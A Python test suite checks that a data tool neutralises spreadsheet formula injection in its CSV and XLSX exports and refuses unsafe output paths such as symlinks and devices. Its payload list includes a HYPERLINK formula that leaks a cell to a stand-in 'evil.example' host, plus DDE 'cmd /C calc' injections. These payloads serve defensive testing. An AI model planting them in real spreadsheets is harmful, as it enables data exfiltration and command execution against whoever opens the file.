"""Hostile cells and careless output paths: formula-safe exports and safe files.

Cells: every text that a spreadsheet would read as a formula (``=``, ``+``, ``-``, ``@``, tab,
carriage return, their full-width forms, and those after leading whitespace) comes out of
every CSV and XLSX dat writes with a leading ``'`` (OWASP), typed as text in XLSX (never
data_type ``f``); numbers stay numbers (``-2.5`` is the number -2.5); JSON keeps values
exact. The hostile text is put where a plugin or an import can put it: notes/commentary,
indicator names, the partnership name, action titles, funding line and stream names, target
labels and texts.

Files: ``-o PATH`` never follows a symlink, never replaces a file without ``--force``, refuses
a folder, a device and a missing folder, and writes atomically (a failed write leaves the old
file and no temporary file). Standard output on a full disk is one line and exit 1; a closed
pipe is exit 141, quietly: both tested with the real process (SQLite only: the backend plays
no part there). Everything that reads the database runs on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import subprocess
import uuid
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner
from helpers import db_digest, run_dat
from hypothesis import given, settings
from hypothesis import strategies as st

from dat.core import hookimpl
from dat.core.files import FORMULA_PREFIXES, CsvWriter, atomic_path, check_output, is_formula_like, safe_cell

#: the dangerous texts of the issue and more: each must come out as "'" + text
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff0dcmd",  # full-width -
    "\uff20SUM(A1)",  # full-width @
    "  =1+1",  # leading spaces before =
    "\u00a0+1",  # a no-break space before +
    "\n=1+1",  # a newline before =
    "-5",  # text that only looks like a number: text, so quoted
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
]
#: texts that are left exactly as they are
HARMLESS = ["Retention improved", "5-a-day", "e=mc2", "'already quoted", "", "12 of 20", "–en dash"]

SLUG = "formula"
PERIOD = "2009/10"
N = len(DANGEROUS)


class FormulaPlugin:
    """A partnership whose every text field is hostile (figures themselves are valid)."""

    @hookimpl
    def register_partnerships(self, register):
        register(slug=SLUG, name='=HYPERLINK("x")Formula DAT', region="@North")

    @hookimpl
    def register_indicators(self, register):
        for i, text in enumerate(DANGEROUS):
            register(code=f"{SLUG}.i{i:02d}", name=text, unit="count", polarity="higher")
        for i, text in enumerate(HARMLESS):
            register(code=f"{SLUG}.h{i:02d}", name=text or "blank", unit="count")
        register(code=f"{SLUG}.change", name="Change in waiting", unit="pct_change", polarity="lower")

    @hookimpl
    def register_observations(self, register):
        for i, text in enumerate(DANGEROUS):
            register(partnership=SLUG, indicator=f"{SLUG}.i{i:02d}", period=PERIOD, value=10 + i,
                     commentary=text)
        for i, text in enumerate(HARMLESS):
            register(partnership=SLUG, indicator=f"{SLUG}.h{i:02d}", period=PERIOD, value=i,
                     commentary=text or None)
        register(partnership=SLUG, indicator=f"{SLUG}.change", period=PERIOD, value=-2.5,
                 commentary="-2.5")

    @hookimpl
    def register_targets(self, register):
        register(partnership=SLUG, indicator=f"{SLUG}.i00", period=PERIOD, value=20,
                 label="+label", source="@source")

    @hookimpl
    def register_funding_streams(self, register):
        register(code="FX", name="=Stream name", funders=["-funder"])

    @hookimpl
    def register_allocations(self, register):
        for i, text in enumerate(DANGEROUS[:6]):
            register(partnership=SLUG, stream="FX", year=PERIOD, line=text, amount=f"{1000 + i}.50",
                     banked_by="@PCT", used_for="+treatment")

    @hookimpl
    def register_actions(self, register):
        for i, text in enumerate(DANGEROUS):
            register(partnership=SLUG, ref=f"A{i}", action=text, theme="=theme", lead="-lead",
                     outcome="@outcome", status="in progress")


def _host():
    from dat.core.plugins import PluginHost

    host = PluginHost()
    host.load_builtins()
    host.add("formula_fixture", FormulaPlugin())
    assert not host.plugins["formula_fixture"].problems, host.plugins["formula_fixture"].problems
    return host


def _pg_admin(url: str, sql: str) -> None:
    import psycopg

    with psycopg.connect(url.replace("postgresql+psycopg://", "postgresql://", 1), autocommit=True) as conn:
        conn.execute(sql)


@pytest.fixture(scope="module", params=["sqlite", "postgres"])
def hostile(request, tmp_path_factory):
    """(url, host, store) of a database holding the built-ins and FormulaPlugin, built once
    per backend for this module; tests only read it."""
    from dat.core.services import Store

    host = _host()
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'h.sqlite3'}"
        name = None
    else:
        base = request.getfixturevalue("pg_server_url")
        name = f"dat_{uuid.uuid4().hex[:12]}"
        _pg_admin(base, f'CREATE DATABASE "{name}"')
        url = base.rsplit("/", 1)[0] + "/" + name
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("DAT_DATA_DIR", str(tmp_path_factory.mktemp("hostile-data")))
        store = Store(url, host=host)
    yield url, host, store
    from dat.core.db import dispose_engines

    dispose_engines()
    if name is not None:
        _pg_admin(request.getfixturevalue("pg_server_url"), f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


@pytest.fixture
def cli_run(hostile, monkeypatch):
    """Run a dat command in-process (click's CliRunner) against the hostile database."""
    from dat.cli.main import cli
    from dat.core import plugins

    url, host, _ = hostile
    monkeypatch.setattr(plugins, "get_plugin_manager", lambda *a, **k: host)

    def run(*args: str):
        return CliRunner().invoke(cli, ["--db", url, *args], catch_exceptions=False)

    return run


def _quoted(text: str, xlsx: bool = False) -> str:
    """What a dangerous text becomes: a leading ' and, in CSV, a ' before a formula character
    that follows a separator (a leading tab is one: "\t=1" is "'\t'=1")."""
    return "'" + (text if xlsx else re.sub(r"([,;\t|])(?=[=+\-@])", r"\1'", text))


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_no_formula_text(values) -> None:
    for v in values:
        if isinstance(v, str) and v:
            assert not is_formula_like(v), repr(v)


def _xlsx_cells(path: Path):
    from openpyxl import load_workbook

    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


# -- safe_cell, the one rule --------------------------------------------------------------------

@pytest.mark.parametrize("text", DANGEROUS)
def test_safe_cell_quotes_every_dangerous_prefix(text):
    assert safe_cell(text) == _quoted(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_safe_cell_leaves_harmless_text(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-2.5, -5, 0, 3, Decimal("-10.50"), None, True])
def test_safe_cell_leaves_numbers_and_none(number):
    assert safe_cell(number) is number


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=20))
def test_safe_cell_property(text):
    out = safe_cell(text, separators=False)
    assert out in (text, _quoted(text, xlsx=True))
    first = text.lstrip(" \t\r\n\x0b\x0c\u00a0\u2007\u202f\u3000")[:1]
    dangerous = bool(text) and (text[0] in FORMULA_PREFIXES or (first != "" and first in FORMULA_PREFIXES))
    assert (out != text) == dangerous
    # what comes out is never read as a formula, and it survives a CSV round trip exactly
    assert not out or out[0] not in FORMULA_PREFIXES
    buf = io.StringIO()
    CsvWriter(buf).writerow([out, "x"])
    assert list(csv.reader(io.StringIO(buf.getvalue(), newline=""))) == [[out, "x"]]


_SPACE = " \t\r\n\x0b\x0c\u00a0\u2007\u202f\u3000"


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("ab =+-@;,|\t\u00a0'\"5"), max_size=20))
def test_safe_cell_property_with_separators(text):
    """Attack 2026-12-07, finding 13: whatever separator a spreadsheet splits a CSV line on
    (``,`` ``;`` tab ``|``), even through the quotes, no piece of a written cell starts a
    formula; the cell is quoted when it holds a separator and reads back exactly."""
    out = safe_cell(text)
    assert out.replace("'", "") == text.replace("'", "")
    buf = io.StringIO()
    CsvWriter(buf).writerow(["p", out, 5])
    line = buf.getvalue()
    assert list(csv.reader(io.StringIO(line, newline=""))) == [["p", out, "5"]]
    if any(sep in text for sep in ",;\t|"):
        assert f',"{out.replace(chr(34), chr(34) * 2)}",' in line
    for sep in ";\t|":  # a spreadsheet that splits on another character than the comma
        for piece in line.rstrip("\n").split(sep):
            if piece[:1] == '"' and piece[1:2] != '"':
                piece = piece[1:]  # it opens a quoted field
            bare = piece.lstrip(_SPACE)
            assert not bare or bare[0] not in FORMULA_PREFIXES, (line, sep)


def test_separated_formulas_in_a_note_are_quoted_and_neutralised(tmp_path):
    """Finding 13 through dat export: the note comes out quoted with a ' before each formula."""
    from dat.cli.main import cli

    url = f"sqlite:///{tmp_path / 'd.sqlite3'}"
    notes = ["x;=1+1", "x\t=1+1", "a|@SUM(1)", "ok, -5"]
    rows = "".join(f"dudley,NI40,19{20 + i}/{21 + i},1,,,\"{n}\"\n" for i, n in enumerate(notes))
    (tmp_path / "n.csv").write_text("partnership,indicator,period,value,numerator,denominator,note\n" + rows)
    runner = CliRunner()
    assert runner.invoke(cli, ["--db", url, "import", str(tmp_path / "n.csv")]).exit_code == 0
    res = runner.invoke(cli, ["--db", url, "export", "-i", "NI40", "-p", "dudley"])
    assert res.exit_code == 0, res.stderr
    for want in ('dudley,NI40,1920/21,1,,,"x;\'=1+1"', 'dudley,NI40,1921/22,1,,,"x\t\'=1+1"',
                 'dudley,NI40,1922/23,1,,,"a|\'@SUM(1)"', 'dudley,NI40,1923/24,1,,,"ok,\' -5"'):
        assert want in res.stdout.splitlines(), res.stdout
    out = tmp_path / "n.xlsx"
    assert runner.invoke(cli, ["--db", url, "export", "-i", "NI40", "-p", "dudley", "-o", str(out)]).exit_code == 0
    openpyxl = pytest.importorskip("openpyxl")
    notes_out = [r[6] for r in openpyxl.load_workbook(out).active.iter_rows(min_row=2, values_only=True)]
    assert notes_out == notes  # an .xlsx cell is never split: only its start is checked


def test_xlsx_text_replaces_control_characters():
    from dat.core.files import xlsx_text

    assert xlsx_text("a\x01b") == "a\ufffdb" and xlsx_text("=\x02") == "'=\ufffd"
    assert xlsx_text("tab\tnew\nline") == "tab\tnew\nline"


def test_safe_cell_is_public_api():
    import dat.core.api as api

    assert "safe_cell" in api.__all__ and api.safe_cell is safe_cell


# -- exports: CSV, XLSX, JSON -------------------------------------------------------------------

def test_export_csv_neutralises_notes_and_keeps_numbers(hostile):
    from dat.core.exporter import export

    _, _, store = hostile
    out = io.StringIO(newline="")
    export(store, out, partnerships=[SLUG])
    rows = {r["indicator"]: r for r in _csv_rows(out.getvalue())}
    for i, text in enumerate(DANGEROUS):
        row = rows[f"{SLUG}.i{i:02d}"]
        assert row["note"] == _quoted(text)
        assert row["value"] == str(10 + i)
    for i, text in enumerate(HARMLESS):
        assert rows[f"{SLUG}.h{i:02d}"]["note"] == text
    change = rows[f"{SLUG}.change"]
    assert change["value"] == "-2.5" and change["note"] == "'-2.5"
    _assert_no_formula_text(v for r in rows.values() for v in r.values() if v != "-2.5")


def test_export_xlsx_has_no_formula_and_typed_numbers(hostile, tmp_path):
    from dat.core.exporter import export

    _, _, store = hostile
    path = tmp_path / "o.xlsx"
    export(store, None, fmt="xlsx", path=str(path), partnerships=[SLUG])
    cells = list(_xlsx_cells(path))
    assert cells and all(c.data_type != "f" for c in cells)
    notes = {c.value for c in cells if c.column == 7 and c.row > 1}
    assert {_quoted(t, xlsx=True) for t in DANGEROUS} <= notes
    change = [c for c in cells if c.value == -2.5]
    assert len(change) == 1 and change[0].data_type == "n"
    _assert_no_formula_text(c.value for c in cells)


def test_export_json_keeps_values_exact(hostile):
    from dat.core.exporter import export

    _, _, store = hostile
    out = io.StringIO()
    export(store, out, fmt="json", partnerships=[SLUG])
    rows = {r["indicator"]: r for r in json.loads(out.getvalue())}
    for i, text in enumerate(DANGEROUS):
        assert rows[f"{SLUG}.i{i:02d}"]["note"] == text
    assert rows[f"{SLUG}.change"]["value"] == -2.5


def test_export_funding_and_targets_csv(hostile):
    from dat.core.exporter import export

    _, _, store = hostile
    out = io.StringIO(newline="")
    export(store, out, kind="funding", partnerships=[SLUG])
    rows = _csv_rows(out.getvalue())
    assert {r["line"] for r in rows} == {_quoted(t) for t in DANGEROUS[:6]}
    assert {r["banked_by"] for r in rows} == {"'@PCT"} and {r["used_for"] for r in rows} == {"'+treatment"}
    assert sorted(Decimal(r["amount"]) for r in rows) == [Decimal(f"{1000 + i}.50") for i in range(6)]
    out = io.StringIO(newline="")
    export(store, out, kind="targets", partnerships=[SLUG])
    (target,) = _csv_rows(out.getvalue())
    assert (target["label"], target["source"], target["value"]) == ("'+label", "'@source", "20")


def test_export_funding_xlsx_amounts_are_numbers(hostile, tmp_path):
    from dat.core.exporter import export

    _, _, store = hostile
    path = tmp_path / "f.xlsx"
    export(store, None, kind="funding", fmt="xlsx", path=str(path), partnerships=[SLUG])
    cells = list(_xlsx_cells(path))
    assert all(c.data_type != "f" for c in cells)
    amounts = sorted(c.value for c in cells if c.column == 5 and c.row > 1)
    assert amounts == [1000.5 + i for i in range(6)]


def test_cli_export_xlsx_and_csv_file(cli_run, tmp_path):
    x, c = tmp_path / "all.xlsx", tmp_path / "all.csv"
    assert cli_run("export", "-p", SLUG, "-o", str(x)).exit_code == 0
    assert all(cell.data_type != "f" for cell in _xlsx_cells(x))
    assert cli_run("export", "-p", SLUG, "-o", str(c)).exit_code == 0
    with c.open(encoding="utf-8", newline="") as fh:
        notes = {r["note"] for r in csv.DictReader(fh)}
    assert {_quoted(t) for t in DANGEROUS} <= notes


# -- listings as CSV: status, compare, funding, actions, history, indicators -----------------------

@pytest.mark.parametrize("args, column, expected", [
    (["status", SLUG, "-P", PERIOD], "name", {_quoted(t) for t in DANGEROUS}),
    (["actions", SLUG], "action", {_quoted(t) for t in DANGEROUS}),
    (["funding", SLUG], "line", {_quoted(t) for t in DANGEROUS[:6]}),
    (["indicators", "--partnership", SLUG], "name", {_quoted(t) for t in DANGEROUS}),
    (["partnerships"], "name", {"'=HYPERLINK(\"x\")Formula DAT"}),
    (["history", SLUG, f"{SLUG}.i03"], "commentary", {_quoted(DANGEROUS[3])}),
], ids=["status", "actions", "funding", "indicators", "partnerships", "history"])
def test_listing_csv_neutralised(cli_run, args, column, expected):
    res = cli_run(*args, "-f", "csv")
    assert res.exit_code == 0, res.output
    rows = _csv_rows(res.stdout)
    got = {r[column] for r in rows if r.get(column)}
    assert expected <= got, got
    _assert_no_formula_text(v for r in rows for k, v in r.items() if k not in ("value",))


def test_status_csv_negative_value_stays_a_number(cli_run):
    res = cli_run("status", SLUG, "-P", PERIOD, "-f", "csv")
    rows = {r["code"]: r for r in _csv_rows(res.stdout)}
    assert rows[f"{SLUG}.change"]["value"] == "-2.5"


def test_compare_csv_reason_and_json_exact(cli_run):
    res = cli_run("compare", SLUG, "--indicator", f"{SLUG}.i00", "-P", PERIOD, "-f", "csv")
    assert res.exit_code == 0, res.output
    _assert_no_formula_text(v for r in _csv_rows(res.stdout) for v in r.values())
    res = cli_run("status", SLUG, "-P", PERIOD, "-f", "json")
    names = {r["name"] for r in json.loads(res.stdout)["rows"]}
    assert set(DANGEROUS) <= names  # JSON is not a spreadsheet: exact


# -- report .xlsx ---------------------------------------------------------------------------------

def test_report_xlsx_has_no_formula(cli_run, tmp_path):
    path = tmp_path / "r.xlsx"
    res = cli_run("report", SLUG, "-P", PERIOD, "-o", str(path))
    assert res.exit_code == 0, res.output
    cells = list(_xlsx_cells(path))
    assert all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert {_quoted(t, xlsx=True) for t in DANGEROUS} <= values  # indicator names and action titles
    assert {_quoted(t, xlsx=True) for t in DANGEROUS[:6]} <= values  # funding lines
    assert any(isinstance(v, str) and v.startswith("'=HYPERLINK(\"x\")Formula DAT") for v in values)
    _assert_no_formula_text(c.value for c in cells)


def test_report_markdown_is_exact(cli_run, tmp_path):
    path = tmp_path / "r.md"
    assert cli_run("report", SLUG, "-P", PERIOD, "-o", str(path)).exit_code == 0
    assert "=HYPERLINK(\"x\")Formula DAT" in path.read_text(encoding="utf-8")


# -- safe files -----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def seed_url(tmp_path_factory):
    """An SQLite database of the default plugins, built once (the real process reads it)."""
    from dat.core.plugins import get_plugin_manager, reset_plugin_manager
    from dat.core.services import Store

    url = f"sqlite:///{tmp_path_factory.mktemp('seedfiles') / 's.sqlite3'}"
    with pytest.MonkeyPatch.context() as mp:
        for name in ("DAT_DATABASE_URL", "DAT_LOAD_PLUGINS", "DAT_STRICT_PLUGINS", "DAT_TRACE_PLUGINS"):
            mp.delenv(name, raising=False)
        mp.setenv("DAT_DATA_DIR", str(tmp_path_factory.mktemp("seedfiles-data")))
        reset_plugin_manager()
        try:
            Store(url, host=get_plugin_manager(reload=True))
        finally:
            reset_plugin_manager()
    return url


@pytest.fixture
def run_seed(seed_url):
    from dat.cli.main import cli

    def run(*args: str):
        return CliRunner().invoke(cli, ["--db", seed_url, *args], catch_exceptions=False)

    return run


def _refused(res, code: int, *needles: str) -> str:
    """The run exited ``code`` with one ``dat:`` line naming every needle, no traceback."""
    err = res.stderr
    assert res.exit_code == code, (res.exit_code, res.output)
    assert "Traceback" not in res.output
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("dat: "), err
    for n in needles:
        assert n in lines[0], (n, lines[0])
    return lines[0]


def _no_temp_files(folder: Path) -> None:
    assert not [p.name for p in folder.iterdir() if ".tmp" in p.name], list(folder.iterdir())


OLD = "old content\n"


@pytest.mark.parametrize("cmd", [["export"], ["report", "dudley"]], ids=["export", "report"])
def test_existing_file_needs_force(run_seed, seed_url, tmp_path, cmd):
    out = tmp_path / ("o.csv" if cmd[0] == "export" else "o.md")
    out.write_text(OLD)
    before = db_digest(seed_url)
    res = run_seed(*cmd, "-o", str(out))
    _refused(res, 1, str(out), "exists", "--force")
    assert out.read_text() == OLD and db_digest(seed_url) == before
    res = run_seed(*cmd, "-o", str(out), "--force")
    assert res.exit_code == 0, res.output
    assert out.read_text() != OLD and out.stat().st_size > 0
    _no_temp_files(tmp_path)


@pytest.mark.parametrize("force", [False, True], ids=["plain", "force"])
@pytest.mark.parametrize("cmd, name", [(["export"], "l.csv"), (["export"], "l.xlsx"),
                                       (["report", "dudley"], "l.md"), (["report", "dudley"], "l.xlsx")])
def test_symlink_to_existing_file_refused(run_seed, seed_url, tmp_path, cmd, name, force):
    target = tmp_path / "passwd"  # an /etc/passwd-like file the link points at
    target.write_text("root:x:0:0:root:/root:/bin/bash\n")
    link = tmp_path / name
    link.symlink_to(target)
    before = db_digest(seed_url)
    res = run_seed(*cmd, "-o", str(link), *(["--force"] if force else []))
    _refused(res, 1, str(link), "symbolic link")
    assert target.read_text() == "root:x:0:0:root:/root:/bin/bash\n" and link.is_symlink()
    assert db_digest(seed_url) == before
    _no_temp_files(tmp_path)


def test_dangling_symlink_refused(run_seed, seed_url, tmp_path):
    link = tmp_path / "d.csv"
    link.symlink_to(tmp_path / "nowhere.csv")
    before = db_digest(seed_url)
    _refused(run_seed("export", "-o", str(link), "--force"), 1, "symbolic link")
    assert not (tmp_path / "nowhere.csv").exists() and db_digest(seed_url) == before


@pytest.mark.parametrize("cmd, name", [(["export"], "x.csv"), (["report", "dudley"], "x.md")])
def test_missing_folder_refused_and_not_created(run_seed, seed_url, tmp_path, cmd, name):
    before = db_digest(seed_url)
    out = tmp_path / "nodir" / name
    _refused(run_seed(*cmd, "-o", str(out)), 1, str(out), "is not an existing folder")
    assert not (tmp_path / "nodir").exists() and db_digest(seed_url) == before


@pytest.mark.parametrize("cmd", [["export"], ["report", "dudley"]])
def test_directory_refused(run_seed, seed_url, tmp_path, cmd):
    folder = tmp_path / "out.csv"
    folder.mkdir()
    before = db_digest(seed_url)
    res = run_seed(*cmd, "-o", str(folder))
    assert res.exit_code == 2 and "is a directory" in res.output and "Traceback" not in res.output
    assert folder.is_dir() and not list(folder.iterdir()) and db_digest(seed_url) == before


def test_directory_refused_by_check_output(tmp_path):
    from dat.core.files import OutputError

    (tmp_path / "d.md").mkdir()
    with pytest.raises(OutputError, match="it is a folder"):
        check_output(tmp_path / "d.md", force=True)


def test_device_refused_even_with_force(run_seed, seed_url):
    before = db_digest(seed_url)
    _refused(run_seed("export", "-o", "/dev/full", "--force"), 2, "cannot export")  # no suffix
    with pytest.raises(Exception, match="not a regular file"):
        check_output("/dev/null", force=True)
    assert stat.S_ISCHR(os.stat("/dev/full").st_mode) and db_digest(seed_url) == before


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into a read-only folder anyway")
def test_read_only_folder(run_seed, tmp_path):  # pragma: no cover - CI runs as root
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        _refused(run_seed("export", "-o", str(ro / "x.csv")), 1, "Permission denied")
    finally:
        ro.chmod(0o755)


def test_unwritable_folder_simulated(run_seed, seed_url, tmp_path, monkeypatch):
    import tempfile

    def denied(*a, **k):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", denied)
    before = db_digest(seed_url)
    _refused(run_seed("export", "-o", str(tmp_path / "x.csv")), 1, "x.csv", "Permission denied")
    assert not (tmp_path / "x.csv").exists() and db_digest(seed_url) == before


def test_full_disk_mid_write_keeps_old_file(run_seed, seed_url, tmp_path, monkeypatch):
    """A writer that fails half way (as on a full file system): exit 1, one line, the old
    file untouched and no temporary file left."""
    import dat.core.exporter as exporter

    def half(store, out, **kw):
        out.write("partnership,indicator\nhalf,")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(exporter, "export", half)
    out = tmp_path / "o.csv"
    out.write_text(OLD)
    before = db_digest(seed_url)
    _refused(run_seed("export", "-o", str(out), "--force"), 1, str(out), "No space left on device")
    assert out.read_text() == OLD and db_digest(seed_url) == before
    _no_temp_files(tmp_path)


def test_failing_xlsx_writer_keeps_old_file(run_seed, seed_url, tmp_path, monkeypatch):
    """openpyxl failing while saving a report: the renderer's error, the old file intact."""
    from openpyxl import Workbook

    def broken(self, filename):
        Path(filename).write_bytes(b"PK\x03\x04 half a zip")
        raise RuntimeError("disk went away")

    monkeypatch.setattr(Workbook, "save", broken)
    out = tmp_path / "r.xlsx"
    out.write_bytes(b"old workbook")
    before = db_digest(seed_url)
    _refused(run_seed("report", "dudley", "-o", str(out), "--force"), 1, "failed writing", "disk went away")
    assert out.read_bytes() == b"old workbook" and db_digest(seed_url) == before
    _no_temp_files(tmp_path)


def test_atomic_path_removes_temp_on_interrupt(tmp_path):
    out = tmp_path / "o.csv"
    out.write_text(OLD)
    with pytest.raises(KeyboardInterrupt), atomic_path(out, force=True) as tmp:
        tmp.write_text("partial")
        raise KeyboardInterrupt
    assert out.read_text() == OLD
    _no_temp_files(tmp_path)


def test_file_appearing_meanwhile_is_not_clobbered(tmp_path):
    from dat.core.files import OutputError

    out = tmp_path / "o.csv"
    with pytest.raises(OutputError, match="exists"), atomic_path(out) as tmp:
        tmp.write_text("new")
        out.write_text(OLD)  # another program wrote it while dat was busy
    assert out.read_text() == OLD
    _no_temp_files(tmp_path)


def test_written_file_mode_follows_umask(run_seed, tmp_path):
    out = tmp_path / "m.csv"
    assert run_seed("export", "-o", str(out)).exit_code == 0
    mask = os.umask(0)
    os.umask(mask)
    assert stat.S_IMODE(out.stat().st_mode) == 0o666 & ~mask


def test_force_without_output_is_usage_error(run_seed):
    _refused(run_seed("report", "dudley", "--force"), 2, "--force is for -o")


def test_tui_csv_export_is_safe(tmp_path):
    pytest.importorskip("textual")
    from dat.cli.tui.widgets.table import DataTab

    tab = DataTab.__new__(DataTab)
    tab.records = (["name", "value"], [[t, -2.5] for t in DANGEROUS])
    out = tmp_path / "t.csv"
    assert DataTab.write_csv(tab, out) == N
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [r[0] for r in rows[1:]] == [_quoted(t) for t in DANGEROUS]
    link = tmp_path / "l.csv"
    link.symlink_to(out)
    with pytest.raises(Exception, match="symbolic link"):
        DataTab.write_csv(tab, link)


# -- the real process: full disk, closed pipe -----------------------------------------------------

@pytest.mark.parametrize("args", [
    ["export"],
    ["report", "dudley", "-P", "2007/08 Q1"],
    ["status", "dudley", "-P", "2007/08 Q1", "-f", "csv"],
    ["compare", "--indicator", "NTA.RET12", "-f", "csv"],
], ids=["export", "report", "status", "compare"])
def test_stdout_full_disk_is_one_line(seed_url, args, tmp_path):
    with open("/dev/full", "w") as full:
        res = subprocess.run([*_dat_cmd(), "--db", seed_url, *args], stdout=full, stderr=subprocess.PIPE,
                             text=True, timeout=60, env={**os.environ, "DAT_DATA_DIR": str(tmp_path)})
    assert res.returncode == 1, res.stderr
    assert "Traceback" not in res.stderr and "Exception ignored" not in res.stderr
    lines = [ln for ln in res.stderr.splitlines() if ln.startswith("dat: cannot write")]
    assert lines == ["dat: cannot write the output: No space left on device"], res.stderr


def test_closed_pipe_is_quiet_141(tmp_path):
    # more output than a pipe holds (64 KiB), so dat is still writing when `head` goes away
    # (with less, a busy machine lets dat write it all and exit 0 first)
    url = f"sqlite:///{tmp_path / 'pipe.sqlite3'}"
    rows = [f"{slug},DIP.REFERRALS,{y}/{(y + 1) % 100:02d} Q{q},{y + q}"
            for slug in ("dudley", "bromley", "haringey", "cheshire", "ne_lincs") for y in range(1980, 2026)
            for q in range(1, 5)]
    (tmp_path / "many.csv").write_text("partnership,indicator,period,value\n" + "\n".join(rows) + "\n")
    imported = run_dat("--db", url, "import", str(tmp_path / "many.csv"), env={"DAT_DATA_DIR": str(tmp_path)})
    assert imported.returncode == 0, imported.stderr
    proc = subprocess.Popen(f"{' '.join(_dat_cmd())} --db {url} export | head -c1; exit ${{PIPESTATUS[0]}}",
                            shell=True, executable="/bin/bash", stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            env={**os.environ, "DAT_DATA_DIR": str(tmp_path)})
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 141 and out == b"p" and err == b"", err


def _dat_cmd() -> list[str]:
    import sys

    exe = Path(sys.executable).with_name("dat")
    return [str(exe)] if exe.exists() else [sys.executable, "-m", "dat.cli.main"]


def test_run_dat_helper_still_reports_refusals(seed_url, tmp_path):
    """One refusal end to end through the real console script."""
    out = tmp_path / "o.csv"
    out.write_text(OLD)
    before = db_digest(seed_url)
    res = run_dat("--db", seed_url, "export", "-o", str(out), env={"DAT_DATA_DIR": str(tmp_path)})
    assert res.returncode == 1 and "Traceback" not in res.stderr
    assert res.stderr.strip() == f"dat: cannot write {out}: the file exists; use --force to replace it"
    assert out.read_text() == OLD and db_digest(seed_url) == before


# -- attack findings: a name ending in a slash, a closed stdout ---------------------------------

@pytest.mark.parametrize("cmd, name", [(["export"], "r3.csv/"), (["report", "dudley"], "r3.md/"),
                                       (["report", "dudley"], "r3.xlsx//"), (["export"], "sub/x.json/")])
def test_a_name_ending_in_a_slash_is_a_folder(run_seed, seed_url, tmp_path, cmd, name):
    before = db_digest(seed_url)
    (tmp_path / "sub").mkdir()
    res = run_seed(*cmd, "-o", f"{tmp_path}/{name}")
    assert res.exit_code == 2 and "ends in a slash" in res.output and "Traceback" not in res.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["sub"] and not list((tmp_path / "sub").iterdir())
    assert db_digest(seed_url) == before


@pytest.mark.parametrize("args", [
    ["export"],
    ["export", "--what", "targets"],
    ["report", "dudley", "-P", "2007/08 Q1"],
    ["status", "dudley", "-P", "2007/08 Q1", "-f", "csv"],
    ["partnerships"],
], ids=["export", "export-targets", "report", "status", "partnerships"])
def test_a_closed_stdout_is_an_error(seed_url, args, tmp_path):
    before = db_digest(seed_url)
    res = subprocess.run([*_dat_cmd(), "--db", seed_url, *args], stdout=subprocess.DEVNULL,
                         stderr=subprocess.PIPE, text=True, timeout=60, close_fds=True,
                         preexec_fn=lambda: os.close(1), env={**os.environ, "DAT_DATA_DIR": str(tmp_path)})
    assert res.returncode == 1, res.stderr
    lines = res.stderr.strip().splitlines()
    assert lines == ["dat: cannot write the output: standard output is closed"], res.stderr
    assert db_digest(seed_url) == before


def test_a_closed_stdout_does_not_stop_a_command_that_does_not_write_it(seed_url, tmp_path):
    out = tmp_path / "o.csv"
    res = subprocess.run([*_dat_cmd(), "--db", seed_url, "export", "-o", str(out)], stdout=subprocess.DEVNULL,
                         stderr=subprocess.PIPE, text=True, timeout=60, preexec_fn=lambda: os.close(1),
                         env={**os.environ, "DAT_DATA_DIR": str(tmp_path)})
    assert res.returncode == 0, res.stderr
    assert out.stat().st_size > 0 and "Traceback" not in res.stderr


# -- attack findings: a symlinked parent folder is followed, names are shown escaped (E8, I10) --

def test_a_symlinked_parent_folder_is_followed(run_seed, tmp_path):
    """Only the last part of -o must not be a symlink (docs/cli.md, "Files and cells")."""
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real)
    res = run_seed("export", "-o", str(tmp_path / "link" / "o.csv"))
    assert res.exit_code == 0, res.output
    assert (real / "o.csv").stat().st_size > 0
    (real / "f.csv").symlink_to(real / "o.csv")
    _refused(run_seed("export", "-o", str(tmp_path / "link" / "f.csv"), "--force"), 1, "symbolic link")


def test_a_name_with_a_new_line_is_shown_escaped_and_fits(run_seed, seed_url, tmp_path):
    before = db_digest(seed_url)
    out = tmp_path / "no\ndir" / "o.csv"
    line = _refused(run_seed("export", "-o", str(out)), 1, "no\\ndir/o.csv", "is not an existing folder")
    deep = tmp_path / ("x" * 150) / ("y" * 100) / "o.csv"
    line2 = _refused(run_seed("export", "-o", str(deep)), 1, "is not an existing folder")
    assert len(line) <= 200 and len(line2) <= 200 and db_digest(seed_url) == before


def test_xlsx_export_floats_import_back_unchanged(tmp_path):
    """r3 F1: openpyxl writes "%.16g"; dat writes repr(float), so percents worked out from
    1/3 and 2/7 and a 17-digit value come back bit-identical: the import changes nothing."""
    from dat.cli.main import cli

